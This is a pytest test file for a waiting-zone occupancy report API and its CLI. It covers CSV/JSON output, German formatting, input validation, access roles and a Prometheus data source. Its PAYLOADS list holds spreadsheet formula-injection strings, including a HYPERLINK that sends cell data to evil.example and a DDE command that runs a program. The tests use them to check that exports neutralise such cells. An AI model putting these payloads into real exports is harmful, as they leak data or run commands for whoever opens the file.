"""GET /api/v1/report and `wartezone report`: per zone and step, from the API's own stored minutes
(hand-made here) and from a real Prometheus holding hand-made series; JSON, and CSV that Python's
csv module reads back in both dialects; clear errors for what cannot be a report, and nothing
stored lost by them."""

from __future__ import annotations

import csv
import io
import subprocess
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest
from api_support import DESK_HEADERS, LEAD, LEAD_HEADERS, FakeClock, ServerThread, prometheus_server
from fastapi.testclient import TestClient

from api.app import create_app
from api.counters import CounterSetting
from api.domain import Reading, Role, Snapshot, ZoneKey
from api.engine import Alert
from api.readings import MinuteRow
from api.report import CSV_COLUMNS, GERMAN_COLUMNS, Dialect, report_csv
from api.schemas import Report, ReportRow
from api.settings import Settings
from api.storage import Storage
from edge.cli import main as wartezone
from tests.conftest import need_tool
from tests.support import wait_for
from wartezone_contract import ROOM_CAMERA

WAITING = ZoneKey("north", "entrance", "waiting")
QUEUE = ZoneKey("north", "entrance", "queue")
ELSEWHERE = ZoneKey("south", "hall", "bench")
ROOM = ZoneKey("north", ROOM_CAMERA, "hall")
H = 1_763_967_600  # 2025-11-24 08:00 in Berlin (07:00 UTC)
HOUR = 3600
NAMES = {WAITING: "Wartebereich Süd; Fenster, links", QUEUE: "queue"}


class Edge:
    """The occupancy input at the edge of the unit: the zones and their names, nobody counted now."""

    async def read(self) -> Snapshot:
        return Snapshot(H + 10 * HOUR, {QUEUE: Reading(0, H + 10 * HOUR)}, reported=NAMES, complete=True)

    async def aclose(self) -> None:
        pass


def minute(
    key: ZoneKey, at: int, people: float, peak: float, entries: float, exits: float, at_raise: int | None
) -> MinuteRow:
    return MinuteRow(key, at, people * 60, 60, peak, people, entries, exits, at_raise)


def first_hour() -> list[MinuteRow]:
    """08:00-09:00: 4 people on average, 9 at most, 12 in and 10 out in the first minutes, at the
    raise level (5) for half of each minute from 08:10 to 08:20: 5 minutes; 09:00-10:00 nothing."""
    rows = []
    for m in range(60):
        rows.append(
            minute(WAITING, H + 60 * m, 4.0, 9.0 if m == 10 else 5.0, 1.0 if m < 12 else 0.0,
                   1.0 if m < 10 else 0.0, 30 if 10 <= m < 20 else 0)
        )  # fmt: skip
    rows.append(minute(QUEUE, H + HOUR + 120, 1.5, 2.0, 3.0, 3.0, None))  # few came: Little's law unknown
    rows.append(minute(ELSEWHERE, H + 300, 8.0, 8.0, 8.0, 8.0, None))  # another site
    rows.append(minute(WAITING, H - 60, 50.0, 50.0, 50.0, 50.0, 60))  # before the range
    return rows


def alerts() -> list[Alert]:
    return [
        Alert(1, WAITING, 5, H + 500, H + 600, 9.0, H + 700, Role.DESK, H + 1300),
        Alert(2, WAITING, 5, H + 2000, H + 2100, 6.0),
        Alert(3, WAITING, 5, H + HOUR + 10, H + HOUR + 20, 6.0, H + 3 * HOUR, Role.LEAD),
        Alert(4, ELSEWHERE, 5, H + 10, H + 20, 6.0),
    ]


@pytest.fixture
def settings(make_settings: Callable[..., Settings]) -> Settings:
    made = make_settings()
    storage = Storage.open(made.database)
    with storage.transaction():
        storage.save_readings(first_hour())
        storage.save_alerts(alerts())
    storage.close()
    return made


@pytest.fixture
def client(settings: Settings) -> Iterator[TestClient]:
    with TestClient(create_app(settings, clock=FakeClock(H + 10 * HOUR), source=Edge())) as test_client:
        wait_for(lambda: test_client.get("/api/v1/zones", headers=DESK_HEADERS).json()["zones"], 10, "a read")
        yield test_client


RANGE = {"site": "north", "from": "2025-11-24T08:00", "to": "2025-11-24T10:00", "step": "1h"}


@pytest.mark.parametrize(
    ("counters", "open_now", "needed"),
    [
        ([], None, None),  # nothing set: unknown
        (
            [(H - HOUR, 2)],
            2.0,
            4,
        ),  # 12 came, 10 called by 2 counters: 5 an hour each; 4 keep 80 % under 20 min
        ([(H - HOUR, 2), (H + HOUR / 2, 4)], 3.0, 5),  # 4 from half past: 10 called by 3 on average
    ],
)
def test_the_report_has_counters_open_and_needed(
    settings: Settings, counters: list[tuple[float, int]], open_now: float | None, needed: int | None
) -> None:
    storage = Storage.open(settings.database)
    with storage.transaction():
        for at, number in counters:
            storage.add_counter_setting(WAITING, CounterSetting(at, Role.DESK, number))
    storage.close()
    with TestClient(create_app(settings, clock=FakeClock(H + 10 * HOUR), source=Edge())) as client:
        rows = rows_by(client.get("/api/v1/report", params=RANGE, headers=LEAD_HEADERS).json())
        csv_text = client.get("/api/v1/report", params={**RANGE, "format": "csv"}, headers=LEAD_HEADERS).text
    assert (rows["waiting", "08:00"]["counters_open"], rows["waiting", "08:00"]["counters_needed"]) == (
        open_now,
        needed,
    )
    assert rows["queue", "08:00"]["counters_open"] is None
    assert csv_text.splitlines()[0].endswith("alerts_acknowledged,counters_open,counters_needed")


def rows_by(body: dict[str, Any]) -> dict[tuple[str, str], dict[str, Any]]:
    return {(row["zone"], row["start"][11:16]): row for row in body["rows"]}


def test_the_report_from_the_stored_minutes(client: TestClient) -> None:
    response = client.get("/api/v1/report", params=RANGE, headers=LEAD_HEADERS)
    assert response.status_code == 200, response.text
    body = response.json()
    assert (body["source"], body["step_s"], body["time_zone"]) == ("readings", 3600, "Europe/Berlin")
    assert body["start"] == "2025-11-24T08:00:00+01:00" and body["end"] == "2025-11-24T10:00:00+01:00"
    rows = rows_by(body)
    assert list(rows) == [("queue", "08:00"), ("queue", "09:00"), ("waiting", "08:00"), ("waiting", "09:00")]
    assert rows["waiting", "08:00"] == {
        "site": "north",
        "camera": "entrance",
        "zone": "waiting",
        "name": "Wartebereich Süd; Fenster, links",
        "start": "2025-11-24T08:00:00+01:00",
        "end": "2025-11-24T09:00:00+01:00",
        "occupancy_mean": 4.0,
        "occupancy_peak": 9.0,
        "entries": 12.0,
        "exits": 10.0,
        "little_wait_s": 1200.0,  # 4 people on average x 60 min / 12 who came: 20 minutes
        "minutes_at_raise_level": 5.0,
        "alerts_fired": 2,
        "alerts_acknowledged": 1,
        "counters_open": None,  # none set
        "counters_needed": None,
    }
    # An hour without stored minutes is unknown, not 0 people; its alert is still counted.
    assert {k: rows["waiting", "09:00"][k] for k in ("occupancy_mean", "entries", "little_wait_s")} == {
        "occupancy_mean": None,
        "entries": None,
        "little_wait_s": None,
    }
    assert (rows["waiting", "09:00"]["alerts_fired"], rows["waiting", "09:00"]["alerts_acknowledged"]) == (
        1,
        1,
    )
    queue = rows["queue", "09:00"]
    assert (queue["occupancy_mean"], queue["entries"], queue["little_wait_s"]) == (1.5, 3.0, None)
    assert queue["minutes_at_raise_level"] is None  # no rule: nothing to be at
    assert rows["queue", "08:00"]["occupancy_mean"] is None


def test_minutes_not_counted_are_never_at_the_raise_level(make_settings: Callable[..., Settings]) -> None:
    """A room's minutes of partial reads alone (a camera down: a peak, no count) with a rule: the
    first hour's half hour counted at the level gives 30 minutes, the second hour of none unknown."""
    counted = [MinuteRow(WAITING, H + 60 * m, 360.0, 60, 6.0, 6.0, 0.0, 0.0, 60) for m in range(30)]
    partial = [MinuteRow(WAITING, H + 60 * m, 0.0, 0, 7.0, None, 0.0, 0.0, 0) for m in range(30, 120)]
    settings = make_settings()
    storage = Storage.open(settings.database)
    with storage.transaction():
        storage.save_readings(counted + partial)
    storage.close()
    with TestClient(create_app(settings, clock=FakeClock(H + 10 * HOUR), source=Edge())) as client:
        rows = rows_by(client.get("/api/v1/report", params=RANGE, headers=LEAD_HEADERS).json())
    first, second = rows["waiting", "08:00"], rows["waiting", "09:00"]
    assert (first["minutes_at_raise_level"], first["occupancy_peak"]) == (30, 7)
    assert (second["minutes_at_raise_level"], second["occupancy_mean"]) == (None, None)


def test_a_step_of_minutes_adds_up_the_same(client: TestClient) -> None:
    hourly = rows_by(client.get("/api/v1/report", params=RANGE, headers=LEAD_HEADERS).json())
    quarters = client.get("/api/v1/report", params={**RANGE, "step": "15m"}, headers=LEAD_HEADERS).json()
    waiting = [r for r in quarters["rows"] if r["zone"] == "waiting"][:4]
    assert sum(r["entries"] for r in waiting) == hourly["waiting", "08:00"]["entries"]
    assert (
        sum(r["minutes_at_raise_level"] for r in waiting)
        == hourly["waiting", "08:00"]["minutes_at_raise_level"]
    )
    assert [r["alerts_fired"] for r in waiting] == [1, 0, 1, 0]


def parse_csv(text: str, dialect: str) -> list[dict[str, str]]:
    """The rows keyed by the JSON's field names; the de dialect's German names read back to them."""
    assert text.startswith("\ufeff")  # so that a spreadsheet reads the umlauts as UTF-8
    header, *rows = csv.reader(io.StringIO(text[1:]), delimiter=";" if dialect == "de" else ",")
    if dialect == "de":
        fields = {german: field for field, german in GERMAN_COLUMNS.items()}
        header = [fields[name] for name in header]
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.mark.parametrize(
    ("dialect", "names"),
    [
        ("excel", list(CSV_COLUMNS)),
        ("de", ["Standort", "Kamera", "Zone", "Name", "Beginn", "Ende", "Belegung_Mittel", "Belegung_Spitze",
                "Zugänge", "Abgänge", "Wartezeit_Little_s", "Minuten_an_Alarmgrenze", "Alarme_ausgelöst",
                "Alarme_gesehen", "Schalter_offen", "Schalter_nötig"]),
    ],
)  # fmt: skip
def test_the_csv_header_speaks_the_dialects_language(
    client: TestClient, dialect: str, names: list[str]
) -> None:
    response = client.get(
        "/api/v1/report", params={**RANGE, "format": "csv", "dialect": dialect}, headers=LEAD_HEADERS
    )
    assert (
        next(csv.reader(io.StringIO(response.text[1:]), delimiter=";" if dialect == "de" else ",")) == names
    )
    empty = one_row_csv("x", "de")  # every field has its German name, none is left out
    assert list(empty) == list(CSV_COLUMNS)


def number(cell: str, dialect: str) -> float | None:
    if cell == "":
        return None
    if dialect == "de":
        assert "." not in cell, cell
        return float(cell.replace(",", "."))
    assert "," not in cell, cell
    return float(cell)


@pytest.mark.parametrize("dialect", ["excel", "de"])
def test_csv_reads_back_as_the_json_in_both_dialects(client: TestClient, dialect: str) -> None:
    as_json = client.get("/api/v1/report", params={**RANGE, "step": "15m"}, headers=LEAD_HEADERS).json()
    response = client.get(
        "/api/v1/report",
        params={**RANGE, "step": "15m", "format": "csv", "dialect": dialect},
        headers=LEAD_HEADERS,
    )
    assert response.status_code == 200 and response.headers["content-type"] == "text/csv; charset=utf-8"
    assert (
        'filename="wartezone-north-15m-202511240800-202511241000.csv"'
        in response.headers["content-disposition"]
    )
    rows = parse_csv(response.text, dialect)
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert len(rows) == len(as_json["rows"]) == 2 * 8
    for row, expected in zip(rows, as_json["rows"], strict=True):
        assert (row["site"], row["zone"], row["name"]) == (
            expected["site"],
            expected["zone"],
            expected["name"],
        )
        assert row["start"] == datetime.fromisoformat(expected["start"]).strftime("%Y-%m-%d %H:%M")
        for column in ("occupancy_mean", "occupancy_peak", "entries", "exits", "little_wait_s",
                       "minutes_at_raise_level", "alerts_fired", "alerts_acknowledged"):  # fmt: skip
            assert number(row[column], dialect) == expected[column], (column, row, expected)
    decimals = [r["minutes_at_raise_level"] for r in rows if r["minutes_at_raise_level"] not in ("", "0")]
    assert decimals == (["2,5", "2,5"] if dialect == "de" else ["2.5", "2.5"])  # 08:00 and 08:15


# (display name from the edge, its CSV cell): OWASP's rule for cells a spreadsheet would run.
PAYLOADS = [
    ("", "waiting"),  # no name: the id
    ("Wartebereich Süd", "Wartebereich Süd"),
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ('Halle; "Süd", =1', 'Halle; "Süd", =1'),  # a formula sign inside a text cell is text already
]


class NamedEdge:
    """The edge of the unit, reporting one zone by the given display name."""

    def __init__(self, name: str) -> None:
        self.name = name

    async def read(self) -> Snapshot:
        return Snapshot(H + 10 * HOUR, {}, reported={WAITING: self.name or WAITING.zone}, complete=True)

    async def aclose(self) -> None:
        pass


@pytest.mark.parametrize("dialect", ["excel", "de"])
@pytest.mark.parametrize(("name", "cell"), PAYLOADS, ids=[f"payload{i}" for i in range(len(PAYLOADS))])
def test_a_display_name_never_becomes_a_formula(
    settings: Settings, dialect: str, name: str, cell: str
) -> None:
    with TestClient(create_app(settings, clock=FakeClock(H + 10 * HOUR), source=NamedEdge(name))) as client:
        wait_for(lambda: client.get("/api/v1/zones", headers=DESK_HEADERS).json()["zones"], 10, "a read")
        response = client.get(
            "/api/v1/report", params={**RANGE, "format": "csv", "dialect": dialect}, headers=LEAD_HEADERS
        )
        as_json = client.get("/api/v1/report", params=RANGE, headers=LEAD_HEADERS).json()
    assert [r["name"] for r in parse_csv(response.text, dialect) if r["zone"] == "waiting"] == [cell, cell]
    assert {r["name"] for r in as_json["rows"] if r["zone"] == "waiting"} == {name or "waiting"}  # JSON as is


def one_row_csv(name: str, dialect: Dialect, **numbers: float | None) -> dict[str, str]:
    tz = ZoneInfo("Europe/Berlin")
    start, end = datetime.fromtimestamp(H, tz), datetime.fromtimestamp(H + HOUR, tz)
    figures: dict[str, float | None] = dict.fromkeys(
        ("occupancy_mean", "occupancy_peak", "entries", "exits", "little_wait_s", "minutes_at_raise_level")
    )
    row = ReportRow(
        site="north", camera="entrance", zone="waiting", name=name, start=start, end=end,
        **(figures | numbers), alerts_fired=0, alerts_acknowledged=0,
    )  # fmt: skip
    report = Report(
        site="north", start=start, end=end, step="1h", step_s=HOUR, time_zone=str(tz), source="readings",
        complete=True, rows=[row],
    )  # fmt: skip
    [cells] = parse_csv(report_csv(report, dialect), dialect)
    return cells


@pytest.mark.parametrize("dialect", ["excel", "de"])
@pytest.mark.parametrize(
    ("name", "cell"),
    [("", ""), ("-", "'-"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("a\n=1+1", "a\n=1+1")],
    ids=["empty", "minus", "tab", "carriage return", "line break"],
)
def test_text_cells_are_neutralised(dialect: Dialect, name: str, cell: str) -> None:
    assert one_row_csv(name, dialect)["name"] == cell


@pytest.mark.parametrize(
    ("dialect", "cells"), [("excel", ("-1.5", "-2", "0", "")), ("de", ("-1,5", "-2", "0", ""))]
)
def test_negative_numbers_stay_numbers(dialect: Dialect, cells: tuple[str, ...]) -> None:
    row = one_row_csv("x", dialect, occupancy_mean=-1.5, entries=-2.0, exits=0.0)
    assert (row["occupancy_mean"], row["entries"], row["exits"], row["occupancy_peak"]) == cells


def count_readings(settings: Settings) -> int:
    storage = Storage.open(settings.database)
    try:
        return sum(len(storage.reading_counts(site, 0, 10**10, 1)) for site in ("north", "south"))
    finally:
        storage.close()


@pytest.mark.parametrize(
    ("params", "status", "path", "fragment"),
    [
        ({}, 422, "query.site", "Field required"),
        ({**RANGE, "step": "1s"}, 422, "query.step", "should match pattern"),
        ({**RANGE, "step": "0h"}, 422, "query.step", "should match pattern"),
        ({**RANGE, "step": "1w"}, 422, "query.step", "should match pattern"),
        ({**RANGE, "from": "yesterday"}, 422, "query.from", "yesterday is not a date and time (ist kein "
         "Datum mit Uhrzeit); accepted (erlaubt): 2026-12-06, 2026-12-06T08:00, 06.12.2026, 06.12.2026 "
         "08:00"),
        ({**RANGE, "from": "31.02.2026"}, 422, "query.from", "31.02.2026 is not a date and time"),
        ({**RANGE, "to": "24.11.2025 25:00"}, 422, "query.to", "accepted (erlaubt): 2026-12-06"),
        ({**RANGE, "to": ""}, 422, "query.to", " is not a date and time"),
        ({**RANGE, "format": "xlsx"}, 422, "query.format", "'json' or 'csv'"),
        ({**RANGE, "format": "csv", "dialect": "fr"}, 422, "query.dialect", "'excel' or 'de'"),
        ({**RANGE, "stepp": "1h"}, 422, "query.stepp", "unknown query parameter"),
        ({**RANGE, "site": "nort"}, 404, None, "no zone of site 'nort' is known: did you mean north?"),
    ],
    ids=["nothing", "seconds", "zero", "weeks", "not a time", "no 31 February", "no hour 25", "empty time",
         "format", "dialect", "unknown parameter", "unknown site"],
)  # fmt: skip
def test_what_cannot_be_a_report_is_refused_naming_it(
    client: TestClient,
    settings: Settings,
    params: dict[str, str],
    status: int,
    path: str | None,
    fragment: str,
) -> None:
    before = count_readings(settings)
    response = client.get("/api/v1/report", params=params, headers=LEAD_HEADERS)
    assert response.status_code == status, response.text
    error = response.json()["error"]
    if path is None:
        assert fragment in error["message"]
    else:
        [problem] = [f for f in error["fields"] if f["path"] == path]
        assert fragment in problem["message"], problem
    assert count_readings(settings) == before > 0  # a bad question deletes nothing


# Every range the description allows is a report: (from, to, step) -> (start, end, rows, complete).
@pytest.mark.parametrize(
    ("asked", "start", "end", "rows", "complete"),
    [
        (("2025-11-24T08:00", "2025-11-24T08:00", "1h"), "2025-11-24T08:00", "2025-11-24T08:00", 0, True),
        (("2025-11-24T11:00", "2025-11-24T08:00", "1h"), "2025-11-24T11:00", "2025-11-24T11:00", 0, True),
        (("2025-11-24T08:00", "2025-11-24T10:30", "1h"), "2025-11-24T08:00", "2025-11-24T11:00", 2 * 3, True),
        (("2025-11-24T08:00", "2025-11-24T08:01", "1d"), "2025-11-24T08:00", "2025-11-25T08:00", 2 * 1, True),
        (("2025-11-24T08:00", "2025-12-24T08:00", "1m"), "2025-11-24T08:00", "2025-12-01T23:20", 2 * 11000,
         False),
        (("1900-01-01T00:00", "1970-01-03T00:00Z", "1d"), "1970-01-01T01:00", "1970-01-03T01:00", 0, True),
        (("2199-12-31T00:00Z", "9999-12-31T23:59-23:59", "1d"), "2199-12-31T01:00", "2200-01-01T01:00", 0,
         True),
        (("24.11.2025 08:00", "24.11.2025 10:00", "1h"), "2025-11-24T08:00", "2025-11-24T10:00", 2 * 2, True),
        (("24.11.2025", "25.11.2025", "1d"), "2025-11-24T00:00", "2025-11-25T00:00", 2 * 1, True),
        ((" 24.11.2025T8:00 ", "24.11.2025 10:00", "1h"), "2025-11-24T08:00", "2025-11-24T10:00", 2 * 2,
         True),
    ],
    ids=["empty", "to before from", "part of a step", "less than a step", "too many steps", "before 1970",
         "after 2199", "German date and time", "German dates", "German, short"],
)  # fmt: skip
def test_every_range_is_a_report(
    client: TestClient, asked: tuple[str, str, str], start: str, end: str, rows: int, complete: bool
) -> None:
    params = {"site": "north", "from": asked[0], "to": asked[1], "step": asked[2]}
    response = client.get("/api/v1/report", params=params, headers=LEAD_HEADERS)
    assert response.status_code == 200, response.text
    body = response.json()
    assert (body["start"][:16], body["end"][:16], len(body["rows"]), body["complete"]) == (
        start,
        end,
        rows,
        complete,
    )
    as_csv = client.get("/api/v1/report", params={**params, "format": "csv"}, headers=LEAD_HEADERS)
    assert as_csv.headers["x-wartezone-report-complete"] == str(complete).lower()
    assert len(parse_csv(as_csv.text, "excel")) == rows


def test_too_many_rows_end_the_report_early(make_settings: Callable[..., Settings]) -> None:
    settings = make_settings()
    storage = Storage.open(settings.database)
    with storage.transaction():
        storage.save_readings(minute(ZoneKey("north", "c", f"z{i}"), H, 1, 1, 0, 0, None) for i in range(6))
    storage.close()
    with TestClient(create_app(settings, clock=FakeClock(H), source=Edge())) as client:
        response = client.get(
            "/api/v1/report", params={**RANGE, "to": "2025-12-01T08:00", "step": "1m"}, headers=LEAD_HEADERS
        )
    assert response.status_code == 200
    body = response.json()
    # 6 zones x 10080 steps would be 60480 rows: the first 8333 steps of each zone, 49998 rows
    assert (len(body["rows"]), body["complete"], body["end"]) == (
        6 * 8333,
        False,
        "2025-11-30T02:53:00+01:00",
    )


def test_the_report_needs_the_lead(client: TestClient) -> None:
    assert client.get("/api/v1/report", params=RANGE).status_code == 401
    assert client.get("/api/v1/report", params=RANGE, headers=DESK_HEADERS).status_code == 403


# -- the command ---------------------------------------------------------------------------------


@pytest.fixture
def server(settings: Settings) -> Iterator[ServerThread]:
    running = ServerThread(create_app(settings, clock=FakeClock(H + 10 * HOUR), source=Edge())).start()
    yield running
    running.stop()


def run_report(server: ServerThread, out: Path, *extra: str) -> int:
    return wartezone(
        [
            "report",
            "--api",
            server.url,
            "--site",
            "north",
            "--from",
            "2025-11-24T08:00",
            "--out",
            str(out),
            *extra,
        ]
    )


def test_the_command_writes_the_report(
    server: ServerThread, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "report.csv"
    assert run_report(server, out, "--token", LEAD, "--to", "2025-11-24T10:00", "--dialect", "de") == 0
    assert str(out) in capsys.readouterr().out
    rows = parse_csv(out.read_text(encoding="utf-8"), "de")
    waiting = [r for r in rows if r["zone"] == "waiting"]
    assert [(r["start"], r["entries"], r["little_wait_s"]) for r in waiting] == [
        ("2025-11-24 08:00", "12", "1200"),
        ("2025-11-24 09:00", "", ""),
    ]
    # German dates, as a German office writes them.
    assert (
        run_report(server, out, "--token", LEAD, "--from", "24.11.2025 08:00", "--to", "24.11.2025 10:00")
        == 0
    )
    assert [
        r["start"] for r in parse_csv(out.read_text(encoding="utf-8"), "excel") if r["zone"] == "waiting"
    ] == [
        "2025-11-24 08:00",
        "2025-11-24 09:00",
    ]
    # The token from the environment, JSON for a .json file.
    monkeypatch.setenv("WARTEZONE_TOKEN", LEAD)
    assert run_report(server, tmp_path / "report.json", "--to", "2025-11-24T10:00", "--step", "30m") == 0
    assert len(httpx.Response(200, content=(tmp_path / "report.json").read_bytes()).json()["rows"]) == 2 * 4


@pytest.mark.parametrize(
    ("extra", "status", "message"),
    [
        (("--to", "yesterday"), 2, "wartezone report: --to: yesterday is not a date and time (ist kein"),
        (("--to", "24.13.2025"), 2, "wartezone report: --to: 24.13.2025 is not a date and time"),
        (("--to", "2025-11-24T10:00", "--step", "2x"), 2, "wartezone report: --step: String should match"),
        (("--to", "2025-11-24T10:00", "--token", "desk-token-0123456789abcdef"), 2,
         "wartezone report: this needs the lead role (a lead token): rules, zones, reports (HTTP 403)"),
    ],
    ids=["range", "German range", "step", "desk token"],
)  # fmt: skip
def test_the_command_names_the_problem_and_keeps_the_old_file(
    server: ServerThread,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    extra: tuple[str, ...],
    status: int,
    message: str,
) -> None:
    monkeypatch.setenv("WARTEZONE_TOKEN", LEAD)
    (tmp_path / "reports").mkdir()
    out = tmp_path / "reports" / "report.csv"
    out.write_text("last month's report\n", encoding="utf-8")
    assert run_report(server, out, *extra) == status
    assert capsys.readouterr().err.startswith(message)
    assert out.read_text(encoding="utf-8") == "last month's report\n"
    assert [p.name for p in out.parent.iterdir()] == ["report.csv"]  # no partial file left


def test_the_command_without_a_token_or_an_api(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "report.csv"
    args = ["report", "--site", "north", "--from", "2025-11-24", "--to", "2025-11-25", "--out", str(out)]
    assert wartezone([*args, "--api", "http://127.0.0.1:9"]) == 2
    assert "--token: a lead token is needed (or set WARTEZONE_TOKEN)" in capsys.readouterr().err
    assert wartezone([*args, "--api", "http://127.0.0.1:9", "--token", LEAD]) == 1
    assert "--api: cannot reach http://127.0.0.1:9/api/v1/report" in capsys.readouterr().err
    assert not out.exists()


# -- from a real Prometheus ----------------------------------------------------------------------


def openmetrics(start: int) -> str:
    """Two hours of an edge and an API as Prometheus would have scraped them every 15 s (half a
    step off the hour, so each sample is in one hour): waiting has 4 people, 8 from 0:10 to 0:20
    (raise level 5), 12 coming and 10 going in the first hour; 2 people, 3 in and 5 out in the
    second. A room (raise level 5): 6 people in the first half hour, then partial (a camera down) at
    3 and, in the second hour, at 9. Another site beside it."""
    times = [start + 7.5 + 15 * k for k in range(480)]

    def labels(key: ZoneKey) -> str:
        return f'{{site="{key.site}",camera="{key.camera}",zone="{key.zone}"}}'

    def first(t: float) -> bool:
        return t < start + HOUR

    def counter(t: float, first_rate: float, second_rate: float) -> float:
        if first(t):
            return first_rate * (t - start) / HOUR
        return first_rate + second_rate * (t - start - HOUR) / HOUR

    def people(t: float) -> float:
        return (8.0 if 600 <= t - start < 1200 else 4.0) if first(t) else 2.0

    def in_room(t: float) -> float:
        return 6.0 if t - start < 1800 else 3.0 if first(t) else 9.0

    w, s, r = labels(WAITING), labels(ELSEWHERE), labels(ROOM)
    lines = ["# TYPE wartezone_zone_occupancy gauge"]
    lines += [f"wartezone_zone_occupancy{w} {people(t)} {t}" for t in times]
    lines += [f"wartezone_zone_occupancy{r} {in_room(t)} {t}" for t in times]
    lines += [f"wartezone_zone_occupancy{s} 30 {t}" for t in times]
    lines.append("# TYPE wartezone_zone_entries counter")
    lines += [f"wartezone_zone_entries_total{w} {counter(t, 12, 3)} {t}" for t in times]
    lines += [f"wartezone_zone_entries_total{s} {counter(t, 100, 100)} {t}" for t in times]
    lines.append("# TYPE wartezone_zone_exits counter")
    lines += [f"wartezone_zone_exits_total{w} {counter(t, 10, 5)} {t}" for t in times]
    lines.append("# TYPE wartezone_zone_partial gauge")
    lines += [f"wartezone_zone_partial{r} {int(t - start >= 1800)} {t}" for t in times]
    lines.append("# TYPE wartezone_alert_raise_level gauge")
    lines += [f"wartezone_alert_raise_level{w} 5 {t}" for t in times]
    lines += [f"wartezone_alert_raise_level{r} 5 {t}" for t in times]
    return "\n".join([*lines, "# EOF", ""])


@pytest.mark.live_server
def test_the_report_from_a_real_prometheus(make_settings: Callable[..., Settings], tmp_path: Path) -> None:
    promtool = need_tool("promtool", "scripts/setup.sh --dev installs Debian's prometheus package")
    start = (int(datetime.now(UTC).timestamp()) // HOUR - 4) * HOUR  # four hours ago, on the hour
    (tmp_path / "series.om").write_text(openmetrics(start), encoding="utf-8")
    made = subprocess.run(
        [
            promtool,
            "tsdb",
            "create-blocks-from",
            "openmetrics",
            str(tmp_path / "series.om"),
            str(tmp_path / "tsdb"),
        ],
        capture_output=True,
        text=True,
    )
    assert made.returncode == 0, made.stdout + made.stderr
    with prometheus_server(tmp_path, [], tsdb=tmp_path / "tsdb") as url:
        settings = make_settings(input={"type": "prometheus", "url": url})
        storage = Storage.open(settings.database)
        with storage.transaction():
            storage.save_alerts([Alert(1, WAITING, 5, start + 600, start + 660, 8.0, start + 700, Role.DESK)])
        storage.close()
        with TestClient(create_app(settings)) as client:
            params = {
                "site": "north",
                "from": datetime.fromtimestamp(start, UTC).isoformat(),
                "to": datetime.fromtimestamp(start + 2 * HOUR, UTC).isoformat(),
            }
            response = client.get("/api/v1/report", params=params, headers=LEAD_HEADERS)
            assert response.status_code == 200, response.text
            body = response.json()
            as_csv = client.get("/api/v1/report", params={**params, "format": "csv"}, headers=LEAD_HEADERS)
    assert body["source"] == "prometheus"
    hall_first, hall_second = [row for row in body["rows"] if row["camera"] == ROOM.camera]
    # the partial reads are a lower bound: the peak may take them, the mean not
    assert (hall_first["occupancy_mean"], hall_first["occupancy_peak"]) == (6, 6)
    assert (hall_second["occupancy_mean"], hall_second["occupancy_peak"]) == (None, 9)
    # and count no minute at the raise level: half an hour at 6 counted, none stretched over the hour
    assert hall_first["minutes_at_raise_level"] == pytest.approx(30, abs=1)
    assert hall_second["minutes_at_raise_level"] is None
    first, second = [row for row in body["rows"] if row["camera"] != ROOM.camera]  # the other site: not in it
    berlin = ZoneInfo("Europe/Berlin")
    assert (first["zone"], first["start"], second["start"]) == (
        "waiting",
        datetime.fromtimestamp(start, berlin).isoformat(),
        datetime.fromtimestamp(start + HOUR, berlin).isoformat(),
    )
    mean = (4 * 200 + 8 * 40) / 240  # 15-s samples: 40 of the hour's 240 at 8 people
    assert first["occupancy_mean"] == round(mean, 2) and first["occupancy_peak"] == 8
    assert first["entries"] == pytest.approx(12, abs=0.01) and first["exits"] == pytest.approx(10, abs=0.01)
    assert first["little_wait_s"] == pytest.approx(mean * HOUR / 12, abs=1)  # 23 min 20 s
    assert first["minutes_at_raise_level"] == pytest.approx(10, abs=0.3)
    assert (first["alerts_fired"], first["alerts_acknowledged"]) == (1, 1)
    assert (second["occupancy_mean"], second["occupancy_peak"]) == (2, 2)
    assert second["entries"] == pytest.approx(3, abs=0.01) and second["little_wait_s"] is None  # 3 < 5 came
    assert second["minutes_at_raise_level"] == 0 and second["alerts_fired"] == 0
    assert [
        number(r["entries"], "excel") for r in parse_csv(as_csv.text, "excel") if r["camera"] != ROOM.camera
    ] == pytest.approx([12, 3], abs=0.01)
